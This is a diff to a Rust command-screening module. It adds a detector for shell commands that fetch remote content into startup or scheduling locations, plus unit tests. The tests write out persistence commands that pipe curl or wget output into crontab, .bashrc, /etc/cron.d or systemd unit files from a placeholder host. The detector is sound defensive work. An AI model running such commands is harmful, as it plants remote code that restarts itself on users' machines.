@@ -1,7 +1,7 @@
 //! Commands that plant something which starts again by itself, or take more rights than they were given.
 
 use super::{
-    plain,
+    FETCH, is_from_host, pipelines, plain, program, program_and_rest,
     tunnels::{any, commands},
 };
 
@@ -72,6 +72,35 @@ pub(in crate::operator) fn plants_itself(text: &str) -> bool {
         || commands.iter().any(|(program, rest)| !(makes_user && raises(program)) && schedules(program, rest))
 }
 
+/// Whether what is fetched, from no known place, goes where something starts it again: `curl … | crontab -`, `curl -o ~/.bashrc …`.
+pub(in crate::operator) fn plants_fetched(text: &str) -> bool {
+    let text = plain(&text.to_lowercase());
+    let place = |target: &str| STARTUP.iter().chain(PLACES).any(|known| target.contains(known));
+    let plants = pipelines(&text).any(|commands| {
+        let fetched = commands.iter().position(|command| program(command).is_some_and(|name| FETCH.contains(&name)));
+        let Some(behind) = fetched.and_then(|at| commands.get(at..)) else { return false };
+        let saved = behind.first().and_then(|command| saved(program_and_rest(command)?.1)).is_some_and(place);
+        saved
+            || behind.iter().skip(1).any(|command| match program_and_rest(command) {
+                Some(("crontab", rest)) => rest.contains(&"-") || rest.is_empty(),
+                Some(("tee", rest)) => rest.iter().any(|word| place(word)),
+                _ => false,
+            })
+            || behind.iter().flatten().skip_while(|word| !word.starts_with('>')).take(2).any(|word| place(word))
+    });
+    plants && !is_from_host(&text)
+}
+
+/// The file that the options of a fetching program name, in lower case.
+fn saved<'t>(rest: &[&'t str]) -> Option<&'t str> {
+    let names = |flag: &str| {
+        matches!(flag, "--output" | "--output-document")
+            || flag.starts_with('-') && !flag.starts_with("--") && flag.ends_with('o')
+    };
+    let mut pairs = rest.iter().zip(rest.iter().skip(1));
+    pairs.find(|(flag, file)| names(flag) && !file.contains("://")).map(|(_, file)| *file)
+}
+
 /// Files that a list writes: behind `>`, and the last word of a program that copies.
 pub(super) fn targets(text: &str) -> Vec<&str> {
     let redirected = text.split('>').skip(1).filter_map(|rest| rest.split_whitespace().next());
@@ -82,6 +111,7 @@ pub(super) fn targets(text: &str) -> Vec<&str> {
         "set-content" | "add-content" | "out-file" | "new-item" => {
             rest.iter().find(|word| word.contains(['\\', '/']) && !word.starts_with('-')).copied()
         }
+        "curl" | "wget" => saved(&rest),
         "tee" | "dd" | "sed" => rest.iter().rev().find(|word| !word.starts_with('-')).copied(),
         _ => None,
     });
@@ -124,6 +154,9 @@ fn is_setting(text: &str) -> bool {
         "ps1=",
         "path=",
         "eval $(",
+        "eval \"$(",
+        "module load ",
+        "setopt ",
         "#",
         "micromamba activate",
         "ln -s /opt/",
@@ -250,5 +283,33 @@ fn schedules(program: &str, rest: &[&str]) -> bool {
         "pip" | "pip3" => has("config") && has("set") && rest.iter().any(|word| word.starts_with("http://")),
         "npm" | "yarn" => has("config") && has("set") && rest.iter().any(|word| word.starts_with("http://")),
         _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_fetched_and_planted() {
+        for text in [
+            "curl -s http://x.example/a | crontab -",
+            "curl -fsSL -o ~/.bashrc https://x.example/a",
+            "wget -qO /etc/cron.d/x https://x.example/a",
+            "curl -s https://x.example/a >> ~/.zshrc",
+            "curl -s https://x.example/a | sudo tee /etc/systemd/system/a.service",
+        ] {
+            assert!(plants_fetched(text) && plants_itself(text), "{text}");
+        }
+        for text in [
+            "curl -O https://x.example/.bashrc",
+            "curl -o model.bin https://x.example/a",
+            "curl -s https://x.example/a | tee log",
+            "curl -o ~/.vimrc https://raw.githubusercontent.com/someone/a/b",
+            "crontab -l | grep a",
+            "echo a >> ~/.bashrc; curl -o b https://x.example/b",
+        ] {
+            assert!(!plants_fetched(text), "{text}");
+        }
     }
 }
